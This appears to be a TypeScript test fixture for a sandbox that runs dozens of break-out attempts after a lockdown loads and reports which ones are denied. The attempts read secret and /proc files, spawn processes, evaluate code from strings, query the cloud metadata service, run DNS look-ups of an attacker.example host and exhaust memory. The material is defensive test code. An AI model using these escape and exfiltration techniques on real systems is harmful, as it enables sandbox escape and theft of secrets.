/**
 * Hostile code for the break-out tests: bundled behind the real lock-down, started as the local host starts a sandbox.
 * Runs its attacks, or the fatal one named on the command line, and reports what came of them. Nothing here is a test.
 */
import '../../../../lambdas/sandbox/lockdown.ts';
import childProcess, { exec as importedExec, spawn } from 'node:child_process';
import cluster from 'node:cluster';
import dgram from 'node:dgram';
import dns from 'node:dns';
import fs, { readFileSync, writeFileSync } from 'node:fs';
import fsPromises from 'node:fs/promises';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import inspector from 'node:inspector';
import module, { createRequire } from 'node:module';
import net from 'node:net';
import { join } from 'node:path';
import tls from 'node:tls';
import v8 from 'node:v8';
import vm from 'node:vm';
import { Worker } from 'node:worker_threads';
import { refusalOf } from '../../../../core/lib/url/publicAddress.ts';
import { subtleAttacks } from './subtleAttacks.ts';

interface Aim {
  /** A file outside the asset folder that holds a secret. */
  readonly secretFile: string;
  /** A folder that the user of this process could write to. */
  readonly writableDir: string;
  /** A loopback listener that must never see a connection. */
  readonly port: number;
  readonly socketPath: string;
  /** With `some`: the attacks to run. */
  readonly titles?: readonly string[];
}

const [, , name = '', aimText = '{}'] = process.argv;
const aim = JSON.parse(aimText) as Aim;
const wild = globalThis as unknown as Record<string, never>;
/** Members that the types leave out or forbid; what is not there fails as a call of undefined does. */
type Hidden =
  | 'binding'
  | '_linkedBinding'
  | 'execve'
  | '_load'
  | 'constructor'
  | '_compile'
  | 'register'
  | 'registerHooks';
const anyOf = (value: unknown) => value as Record<Hidden, (...args: unknown[]) => unknown>;
const target = () => join(aim.writableDir, 'written-by-the-sandbox');
const makeRequire = () => createRequire(import.meta.url);

/** Resolves when the connection is up; rejects when it is refused. */
const connected = (make: () => net.Socket): Promise<string> =>
  new Promise((done, fail) => {
    const socket = make();
    socket.on('connect', () => done('connected'));
    socket.on('error', fail);
  });
const responded = (
  make: (done: (value: unknown) => void) => { on(event: 'error', fail: (e: Error) => void): unknown },
) =>
  new Promise((done, fail) => {
    make(done).on('error', fail);
  });

export const ATTACKS: Readonly<Record<string, () => unknown>> = {
  // Files of the machine, of another server, of the process itself.
  'read a file': () => readFileSync(aim.secretFile, 'utf8'),
  'read a file by promise': () => fsPromises.readFile(aim.secretFile, 'utf8'),
  'read a file by stream': () =>
    new Promise((done, fail) => fs.createReadStream(aim.secretFile).on('data', done).on('error', fail)),
  'read a file by the stream class': () =>
    new Promise((done, fail) => new fs.ReadStream(aim.secretFile as never).on('data', done).on('error', fail)),
  'read a file by descriptor': () => fs.readFileSync(fs.openSync(aim.secretFile, 'r'), 'utf8'),
  'read a file by file handle': async () => (await fsPromises.open(aim.secretFile)).readFile('utf8'),
  'read a file by URL': () => readFileSync(new URL(`file://${aim.secretFile}`), 'utf8'),
  'read a file by buffer path': () => readFileSync(Buffer.from(aim.secretFile), 'utf8'),
  'read a file by a path that climbs': () =>
    readFileSync(`${import.meta.dirname}/${'../'.repeat(20)}${aim.secretFile}`, 'utf8'),
  'read a file by blob': async () => (await fs.openAsBlob(aim.secretFile)).text(),
  'read a file by require': () => makeRequire()(aim.secretFile),
  'read a file by import': () => import(aim.secretFile),
  'list a folder': () => fs.readdirSync('/'),
  'read the environment of the process': () => readFileSync('/proc/self/environ', 'utf8'),
  'read the memory map of the process': () => readFileSync('/proc/self/maps', 'utf8'),
  'load an environment file': () => process.loadEnvFile(aim.secretFile),
  'copy a file into view': () => fs.copyFileSync(aim.secretFile, target()),
  'link a file into view': () => fs.symlinkSync(aim.secretFile, target()),
  'watch a file': () => fs.watch(aim.secretFile),
  // Writing.
  'write a file': () => writeFileSync(target(), 'x'),
  'write a file by promise': () => fsPromises.writeFile(target(), 'x'),
  'write a file by stream': () =>
    new Promise((done, fail) => fs.createWriteStream(target()).on('open', done).on('error', fail)),
  'write a file by the stream class': () =>
    new Promise((done, fail) => new fs.WriteStream(target() as never).on('open', done).on('error', fail)),
  'write a file by descriptor': () => fs.openSync(target(), 'w'),
  'write a file by numeric flags': () => fs.openSync(target(), fs.constants.O_WRONLY | fs.constants.O_CREAT),
  'write into the asset folder': () => writeFileSync(join(import.meta.dirname, 'planted.mjs'), 'x'),
  'make a folder': () => fs.mkdirSync(target()),
  'delete a file': () => fs.rmSync(aim.secretFile),
  'change the rights of a file': () => fs.chmodSync(aim.secretFile, 0o777),
  'write a heap snapshot': () => v8.writeHeapSnapshot(target()),
  'write a diagnostic report': () => process.report.writeReport(target()),
  // Processes, threads, native code.
  'spawn a process': () => spawn('/bin/true'),
  'spawn a process synchronously': () => childProcess.spawnSync('/bin/true').status ?? 'nothing',
  'execute a command': () =>
    new Promise((done, fail) => importedExec('true', (error) => (error ? fail(error) : done('ran')))),
  'fork a process': () => childProcess.fork(import.meta.filename),
  'spawn by the class': () =>
    new (childProcess as unknown as { ChildProcess: new () => { spawn(o: object): void } }).ChildProcess().spawn({
      file: '/bin/true',
      args: [],
    }),
  'spawn by require': () => (makeRequire()('node:child_process') as typeof childProcess).execSync('true'),
  'spawn by builtin look-up': () => process.getBuiltinModule('child_process').execSync('true'),
  'spawn by import': async () => (await import('node:child_process')).execSync('true'),
  'fork a cluster worker': () => cluster.fork(),
  'start a thread': () => new Worker('1', { eval: true }),
  'load an addon': () => process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'),
  'use internal bindings': () => anyOf(process)['binding']('spawn_sync'),
  'use linked bindings': () => anyOf(process)['_linkedBinding']('spawn_sync'),
  'replace the process': () => anyOf(process)['execve']('/bin/true', ['true'], {}),
  'signal another process': () => process.kill(process.ppid, 0),
  'open the inspector': () => inspector.open(0),
  'use an inspector session': () => new inspector.Session().connect(),
  'set engine flags': () => v8.setFlagsFromString('--allow-natives-syntax'),
  'open a database': () =>
    new (makeRequire()('node:sqlite') as { DatabaseSync: new (p: string) => unknown }).DatabaseSync(target()),
  'start a REPL': () => makeRequire()('repl').start(),
  'start a REPL by import': async () => (await import('node:repl')).start(),
  'start a REPL by builtin look-up': () => process.getBuiltinModule('repl').start(),
  'start a REPL by the loader': () => (anyOf(module)['_load']('repl') as { start(): unknown }).start(),
  'enter a domain': () => (makeRequire()('domain') as { create(): { enter(): void } }).create().enter(),
  'run a test file': async () => ((await import('node:test')) as { run(): unknown }).run(),
  'start a WASI program': () =>
    new (makeRequire()('node:wasi') as { WASI: new (o: object) => unknown }).WASI({
      version: 'preview1',
      preopens: { '/': '/' },
    }),
  // Code from strings.
  'indirect eval': () => (wild['eval'] as unknown as (text: string) => unknown)('1 + 1'),
  'the Function constructor': () => new Function('return 1')(),
  'the constructor of a function': () => anyOf(() => 0)['constructor']('return 1'),
  'the constructor of an async function': () => anyOf(async () => 0)['constructor']('return 1'),
  'the constructor of a generator': () => anyOf(function* () {})['constructor']('yield 1'),
  'vm.runInThisContext': () => vm.runInThisContext('1 + 1'),
  'vm.runInNewContext': () => vm.runInNewContext('1 + 1'),
  'vm.Script': () => new vm.Script('1 + 1').runInThisContext(),
  'vm.compileFunction': () => vm.compileFunction('return 1')(),
  'Module._compile': () => anyOf(new (module as unknown as new (id: string) => object)('x'))['_compile']('1', '/x.js'),
  'importing a data URL': () =>
    import(`data:text/javascript,export default ${aim.port}`).then((loaded: { default: unknown }) => loaded.default),
  'registering a loader': () => anyOf(module)['register']('data:text/javascript,'),
  'registering hooks': () => anyOf(module)['registerHooks']({}),
  // The network.
  'connect to an address': () => connected(() => net.connect(aim.port, '127.0.0.1')),
  'connect to a name': () => connected(() => net.connect({ host: 'localhost', port: aim.port })),
  'connect a socket': () => connected(() => new net.Socket().connect({ host: '127.0.0.1', port: aim.port })),
  'connect over TLS': () =>
    connected(() => tls.connect({ host: '127.0.0.1', port: aim.port, rejectUnauthorized: false })),
  'connect to a local socket': () => connected(() => net.connect(aim.socketPath)),
  'connect with a forged mark': () =>
    connected(() =>
      net.connect({ host: '127.0.0.1', port: aim.port, [Symbol('guarded')]: true, guarded: true } as never),
    ),
  'connect to an allowed name at a look-up of its own': () =>
    connected(() =>
      net.connect({
        host: 's3.eu-central-1.amazonaws.com',
        port: 443,
        lookup: (_name: string, _options: object, done: (e: null, a: string, f: number) => void) =>
          done(null, '127.0.0.1', 4),
      } as never),
    ),
  'connect through a replaced socket method': () => {
    (net.Socket.prototype as { connect: unknown }).connect = () => 'mine';
    return (net.Socket.prototype.connect as unknown as () => string)();
  },
  'request over HTTP': () => responded((done) => http.get(`http://127.0.0.1:${aim.port}/`, done)),
  'request over HTTPS': () =>
    responded((done) => https.get(`https://127.0.0.1:${aim.port}/`, { rejectUnauthorized: false }, done)),
  'request over HTTP/2': () =>
    new Promise((done, fail) => {
      http2.connect(`http://127.0.0.1:${aim.port}`).on('connect', done).on('error', fail);
    }),
  fetch: () => fetch(`http://127.0.0.1:${aim.port}/`),
  'the metadata service': () => responded((done) => http.get('http://169.254.169.254/latest/meta-data/', done)),
  WebSocket: () =>
    new Promise((done, fail) => {
      const socket = new WebSocket(`ws://127.0.0.1:${aim.port}/`);
      socket.onopen = done;
      socket.onerror = () => fail(new Error('refused'));
    }),
  'send a datagram': () => dgram.createSocket('udp4').send('x', aim.port, '127.0.0.1'),
  'listen on a port': () => net.createServer().listen(0),
  'look a name up': () =>
    new Promise((done, fail) =>
      dns.lookup('secret.attacker.example', (error, address) =>
        error?.code === 'ERR_SANDBOX_DENIED' || error ? fail(error) : done(address),
      ),
    ),
  'query DNS': () => dns.promises.resolveTxt('secret.attacker.example'),
  'query DNS by a resolver': () => new dns.Resolver().resolve('secret.attacker.example', () => {}),
  ...subtleAttacks(aim),
};

/** Attacks that are measured from outside: the process is expected to be ended, or to end itself. */
const FATAL: Readonly<Record<string, () => void>> = {
  'exhaust the heap': () => {
    const kept: unknown[] = [];
    for (;;) kept.push(new Array(1_000_000).fill(kept.length));
  },
  'loop for ever': () => {
    for (;;);
  },
};

/** Runs one attack; an error thrown past it (from a stream or a callback) counts as its own. */
async function run(attack: () => unknown): Promise<object> {
  let escaped: (error: Error) => void = () => {};
  const stray = new Promise<never>((_done, fail) => {
    escaped = fail;
  });
  process.on('uncaughtException', escaped);
  const tooLate = new Promise<string>((done) => setTimeout(done, 2_000, 'nothing happened').unref());
  try {
    const value = await Promise.race([Promise.resolve().then(attack), stray, tooLate]);
    return { denied: false, value: String(value).slice(0, 80) };
  } catch (error) {
    const { code, message } = error as NodeJS.ErrnoException;
    return { denied: true, code, message };
  } finally {
    process.off('uncaughtException', escaped);
  }
}

if (name === 'harmless') {
  // Proof that the process works at all: what the sandbox itself needs is not denied.
  const own = fs.readFileSync(import.meta.filename).length > 0;
  process.stdout.write(JSON.stringify({ own, refused: refusalOf('10.0.0.1') }));
} else if (FATAL[name]) {
  process.stdout.write('started');
  setImmediate(FATAL[name]);
} else {
  const results: Record<string, object> = {};
  for (const [title, attack] of Object.entries(ATTACKS)) {
    if (name === 'all' || aim.titles?.includes(title)) results[title] = await run(attack);
  }
  process.stdout.write(JSON.stringify(results));
  process.exit(0);
}
